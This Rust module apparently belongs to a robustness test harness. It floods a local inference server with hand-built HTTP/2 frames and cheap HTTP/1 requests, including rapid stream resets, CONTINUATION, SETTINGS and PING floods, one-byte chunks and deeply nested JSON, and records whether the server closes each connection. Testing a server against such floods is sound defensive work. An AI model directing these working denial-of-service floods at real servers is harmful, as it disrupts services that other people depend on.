//! Hand-written HTTP/2 frames that cost the sender less than the server, and the cheapest HTTP/1 requests.

use std::{
    io,
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::timeout,
};

use crate::{rows::Tally, server::Target};

/// Bytes sent repeatedly on one connection.
pub struct Flood {
    /// Name of the flood in the table of attacks.
    pub name: &'static str,
    /// The bytes at the start of the connection.
    start: fn() -> Vec<u8>,
    /// Builds the bytes to send next. The argument is the number of pieces already sent on this connection.
    piece: fn(u32) -> Vec<u8>,
    is_http1: bool,
    /// Whether the server closes the connection because of this flood; well-behaved clients send no such
    /// bytes.
    pub is_ended: bool,
}

/// All floods: those of HTTP/2 frames and those of HTTP/1 requests.
pub const FLOODS: &[Flood] = &[
    Flood {
        name: "streams that are reset at once",
        start: preface,
        piece: |number| {
            let id = 2 * number + 1;
            let cancel = 8u32.to_be_bytes();
            [
                frame(HEADERS, END_HEADERS, id, &headers(UNARY)),
                frame(RST_STREAM, 0, id, &cancel),
            ]
            .concat()
        },
        is_http1: false,
        is_ended: true,
    },
    Flood {
        name: "CONTINUATION without end",
        start: || [preface(), frame(HEADERS, 0, 1, &headers(UNARY))].concat(),
        piece: |_| frame(CONTINUATION, 0, 1, &header("x-filler", &"y".repeat(1000))),
        is_http1: false,
        is_ended: true,
    },
    Flood {
        name: "empty CONTINUATION frames",
        start: || [preface(), frame(HEADERS, 0, 1, &headers(UNARY))].concat(),
        piece: |_| frame(CONTINUATION, 0, 1, &[]),
        is_http1: false,
        is_ended: true,
    },
    Flood {
        name: "SETTINGS frames",
        start: preface,
        piece: |_| frame(SETTINGS, 0, 0, &[]),
        is_http1: false,
        is_ended: true,
    },
    Flood {
        name: "PING frames",
        start: preface,
        piece: |_| frame(PING, 0, 0, &[0; 8]),
        is_http1: false,
        is_ended: true,
    },
    Flood {
        name: "WINDOW_UPDATE frames",
        start: || [preface(), frame(HEADERS, END_HEADERS, 1, &headers(STREAM))].concat(),
        piece: |_| frame(WINDOW_UPDATE, 0, 1, &1u32.to_be_bytes()),
        is_http1: false,
        is_ended: true,
    },
    Flood {
        name: "PRIORITY frames",
        start: preface,
        piece: |number| frame(PRIORITY, 0, 2 * (number % 1_000_000) + 1, &[0, 0, 0, 0, 1]),
        is_http1: false,
        is_ended: true,
    },
    Flood {
        name: "DATA frames of one byte",
        start: || {
            let announced = [0, 0, 0xff, 0xff, 0xff];
            [
                preface(),
                frame(HEADERS, END_HEADERS, 1, &headers(UNARY)),
                frame(DATA, 0, 1, &announced),
            ]
            .concat()
        },
        piece: |_| frame(DATA, 0, 1, b"\x78"),
        is_http1: false,
        is_ended: true,
    },
    Flood {
        name: "padded DATA frames of one byte",
        start: || [preface(), frame(HEADERS, END_HEADERS, 1, &headers(STREAM))].concat(),
        piece: |_| frame(DATA, PADDED, 1, &[&[255u8, 0][..], &[0; 255]].concat()),
        is_http1: false,
        is_ended: false,
    },
    Flood {
        name: "empty messages in a stream",
        start: || [preface(), frame(HEADERS, END_HEADERS, 1, &headers(STREAM))].concat(),
        piece: |_| frame(DATA, 0, 1, &[0; 500]),
        is_http1: false,
        is_ended: false,
    },
    Flood {
        name: "unknown methods",
        start: preface,
        piece: |number| {
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                2 * number + 1,
                &headers("/x/Y"),
            )
        },
        is_http1: false,
        is_ended: false,
    },
    Flood {
        name: "pipelined requests whose answers are not read",
        start: Vec::new,
        piece: |_| b"GET /v2 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".to_vec(),
        is_http1: true,
        is_ended: false,
    },
    Flood {
        name: "pipelined requests for metrics whose answers are not read",
        start: Vec::new,
        piece: |_| b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".to_vec(),
        is_http1: true,
        is_ended: false,
    },
    Flood {
        name: "chunks of one byte",
        start: || {
            b"POST /v2/models/echo/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                .to_vec()
        },
        piece: |_| b"1\r\n \r\n".to_vec(),
        is_http1: true,
        is_ended: false,
    },
    Flood {
        name: "deep JSON",
        start: Vec::new,
        piece: |_| post(r#"{"inputs":[],"parameters":{"a":"#, &"[".repeat(8000)),
        is_http1: true,
        is_ended: false,
    },
    Flood {
        name: "many JSON parameters",
        start: Vec::new,
        piece: |_| {
            let parameters: String = (0..1000).map(|number| format!(r#""{number}":0,"#)).collect();
            post(
                r#"{"inputs":[],"parameters":{"#,
                &format!(r#"{parameters}"z":0}}}}"#),
            )
        },
        is_http1: true,
        is_ended: false,
    },
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;

const UNARY: &str = "/inference.GRPCInferenceService/ModelInfer";
const STREAM: &str = "/inference.GRPCInferenceService/ModelStreamInfer";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = Vec::with_capacity(9 + payload.len());
    frame.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

fn preface() -> Vec<u8> {
    [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
        frame(SETTINGS, 0, 0, &[]),
    ]
    .concat()
}

/// Returns a literal HPACK header without Huffman coding.
fn header(name: &str, value: &str) -> Vec<u8> {
    let mut block = vec![0];
    for text in [name, value] {
        // Lengths from 127 are continued in groups of seven bits.
        match u8::try_from(text.len()).ok().filter(|length| *length < 127) {
            Some(length) => block.push(length),
            None => {
                block.push(127);
                let mut rest = text.len() - 127;
                while rest >= 128 {
                    block.push((rest % 128) as u8 | 128);
                    rest /= 128;
                }
                block.push(rest as u8);
            }
        }
        block.extend_from_slice(text.as_bytes());
    }
    block
}

fn headers(path: &str) -> Vec<u8> {
    [
        header(":method", "POST"),
        header(":scheme", "http"),
        header(":path", path),
        header(":authority", "127.0.0.1"),
        header("content-type", "application/grpc"),
        header("te", "trailers"),
    ]
    .concat()
}

fn post(start: &str, rest: &str) -> Vec<u8> {
    let length = start.len() + rest.len();
    format!(
        "POST /v2/models/echo/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {length}\r\n\r\n{start}{rest}"
    )
    .into_bytes()
}

/// Duration of a flood that the server does not end.
const DURATION: Duration = Duration::from_secs(5);

/// Floods a connection, reconnecting when the server closes it. HTTP/2 responses are read, HTTP/1 responses
/// are not.
pub async fn flood(target: Target, tally: Tally, kind: &'static Flood) {
    let start = Instant::now();
    while start.elapsed() < DURATION {
        match once(target, kind, start).await {
            Ok(pieces) => tally.add(format_args!("not closed after {} thousand", pieces / 1000)),
            Err(_) => tally.add("closed"),
        }
    }
}

/// Floods one connection until time is up; returns an error when the server closes it earlier.
async fn once(target: Target, kind: &Flood, start: Instant) -> io::Result<u32> {
    let address = if kind.is_http1 { target.http } else { target.grpc };
    let (mut reader, mut writer) = TcpStream::connect(address).await?.into_split();
    writer.write_all(&(kind.start)()).await?;
    let reading = async {
        if kind.is_http1 {
            return std::future::pending::<io::Result<u32>>().await;
        }
        let mut room = vec![0; 1 << 16];
        while reader.read(&mut room).await? > 0 {}
        Err(io::ErrorKind::UnexpectedEof.into())
    };
    let writing = async {
        let mut number = 0;
        while start.elapsed() < DURATION {
            let mut pieces = Vec::new();
            for _ in 0..64 {
                pieces.extend_from_slice(&(kind.piece)(number));
                number += 1;
            }
            // Waits while the server does not read, because the flood then costs the server nothing.
            match timeout(Duration::from_secs(1), writer.write_all(&pieces)).await {
                Ok(written) => written?,
                Err(_) => continue,
            }
        }
        Ok(number)
    };
    tokio::select! {
        ended = reading => ended,
        ended = writing => ended,
    }
}
